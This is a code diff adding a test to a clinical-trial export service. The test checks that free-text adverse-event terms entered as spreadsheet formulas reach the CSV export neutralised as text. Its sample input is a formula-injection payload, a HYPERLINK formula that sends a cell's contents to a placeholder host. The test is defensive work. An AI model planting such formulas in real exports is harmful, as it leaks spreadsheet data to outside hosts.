@@ -13,7 +13,7 @@ import pandas as pd
 import pyreadstat
 import pytest
 
-from exports_world import ENROLLED, NOW, SCREEN_FAILED
+from exports_world import AE, ENROLLED, NOW, SCREEN_FAILED
 from exports_checks import arm_mentions, members
 from trialkit.server.audit.models import AuditEvent
 from trialkit.server.exports import services
@@ -223,3 +223,19 @@ def test_ended_participations_reach_sdtm_ds_dated_and_the_analysis_tables(world,
                         third.participant_number: "lost", world["participants"][3].participant_number: "ongoing"}
     assert {r["participant_id"]: r["status"] for r in participant_rows(world["trial"], unblinded=False)} == exported
 
+
+
+def test_free_text_a_spreadsheet_would_run_is_exported_inert(world, make_user):
+    """An adverse-event term typed as a formula reaches the CSV as text (leading quote), never as a
+    formula; numbers, negative ones included, are left as numbers."""
+    from trialkit.server.capture import services as capture
+
+    first = world["participants"][0]
+    formula = '=HYPERLINK("http://example.invalid/?"&A1,"Headache")'
+    capture.save_adverse_event(first, {**AE, "term": formula}, world["coordinator"], complete=True, now=NOW)
+    job = services.create_export(world["trial"], make_user("data_manager", world["trial"]), formats=["csv"],
+                                 now=NOW)
+    text = members(job.result_path)["data/adverse_events.csv"].decode()
+    terms = pd.read_csv(io.StringIO(text), dtype=str)["term"].tolist()
+    assert "'" + formula in terms and formula not in terms
+    assert not any(line.startswith(("=", "+", "@")) or ",=" in line or ",+" in line for line in text.splitlines())
